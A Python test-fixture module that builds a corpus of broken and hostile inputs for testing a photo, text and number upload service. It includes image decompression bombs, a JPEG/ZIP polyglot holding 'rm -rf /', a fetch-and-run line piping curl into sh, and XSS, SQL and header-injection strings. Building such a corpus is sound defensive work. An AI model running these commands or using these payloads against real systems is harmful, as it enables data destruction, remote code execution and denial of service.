"""The bad-input corpus: broken and hostile photos (the shared broken fixtures
and files made here), hostile texts and bad numbers, shared by every corpus
test. Each entry is (name, value); photos are bytes."""
import io
import struct
import zlib
from pathlib import Path

from PIL import Image

from tests.conftest import PHOTOS


def _chunk(kind, payload):
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


def png_bomb(width=60000, height=60000):
    """A few hundred bytes announcing 3.6 gigapixels."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
            + _chunk(b"IEND", b""))


def jpeg_bomb():
    """A JPEG whose frame header says 65500 × 65500."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, 65500, 65500, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8" + sof + b"\xff\xda" + b"\x00" * 64 + b"\xff\xd9"


def gif_bomb():
    """A GIF with a 65535 × 65535 logical screen and an image that fills it."""
    screen = b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0, 0, 0)
    image = b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x44\x01\x00"
    return screen + image + b"\x3b"


def webp_bomb():
    """A WebP (VP8X) declaring a 16384 × 16384 canvas."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (16383).to_bytes(3, "little") * 2
    body = b"WEBP" + vp8x
    return b"RIFF" + struct.pack("<I", len(body)) + body


def tiny_png():
    buffer = io.BytesIO()
    Image.new("RGB", (1, 1), (200, 30, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def giant_exif():
    """A valid small JPEG carrying ten 64 KB APP1 segments of EXIF-looking junk."""
    buffer = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 120, 60)).save(buffer, "JPEG")
    data = buffer.getvalue()
    junk = b"".join(b"\xff\xe1" + struct.pack(">H", 65533) + b"Exif\x00\x00" + b"\xab" * 65525 for _ in range(10))
    return data[:2] + junk + data[2:]


def jpeg_with_zip():
    """A real JPEG with a ZIP archive after its end: a polyglot."""
    archive = b"PK\x03\x04" + b"\x14\x00" + b"\x00" * 22 + b"evil.sh" + b"#!/bin/sh\nrm -rf /\n" + b"PK\x05\x06" + b"\x00" * 18
    return (PHOTOS / "plain" / "no_exif.jpg").read_bytes() + archive


def truncated_heic():
    return (PHOTOS / "heic" / "samplefilehub.heif").read_bytes()[:3000]


SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
       b'<script>alert(document.cookie)</script></svg>')

BAD_PHOTOS = [
    ("zero bytes", b""),
    ("one pixel png", tiny_png()),
    ("png bomb", png_bomb()),
    ("jpeg bomb", jpeg_bomb()),
    ("gif bomb", gif_bomb()),
    ("webp bomb", webp_bomb()),
    ("giant exif", giant_exif()),
    ("svg with script", SVG),
    ("html renamed jpg", b"<!doctype html><html><body><script>alert(1)</script></body></html>"),
    ("script renamed jpg", b"#!/bin/sh\ncurl http://example.invalid | sh\n"),
    ("truncated heic", truncated_heic()),
    ("gif polyglot", b"GIF89a/*\x00\x00\x00\x00*/=1;alert(1)//" + b"\x00" * 64),
    ("jpeg with a zip after it", jpeg_with_zip()),
    ("text", "这不是照片".encode()),
] + [(f"fixture broken/{p.name}", p.read_bytes()) for p in sorted(Path(PHOTOS / "broken").glob("*.jpg"))]

HOSTILE_TEXTS = [
    ("xss", '<script>alert("x")</script><img src=x onerror=alert(1)>'),
    ("sql", "'; DROP TABLE cases; -- \" OR 1=1 --"),
    ("emoji", "🚮🗑️💩 垃圾 👨‍👩‍👧‍👦"),
    ("rtl", "\u202eabc\u202d 网格 \u200f\u061c"),
    ("nul", "before\x00after"),
    ("control", "line\r\nInjected-Header: x\x1b[31m\x07"),
    ("long", "长" * 100_000),
    ("template", "{{ 7*7 }} {% raw %} ${7*7} %(x)s"),
    ("lone surrogate-ish", "\udcff"),
]

BAD_NUMBERS = [
    ("too big", 91), ("too small", -181), ("nan text", "NaN"), ("infinity text", "Infinity"), ("string", "12.5"),
    ("bool", True), ("list", [1]), ("object", {"v": 1}), ("huge", 1e308), ("exp", "1e999"),
]
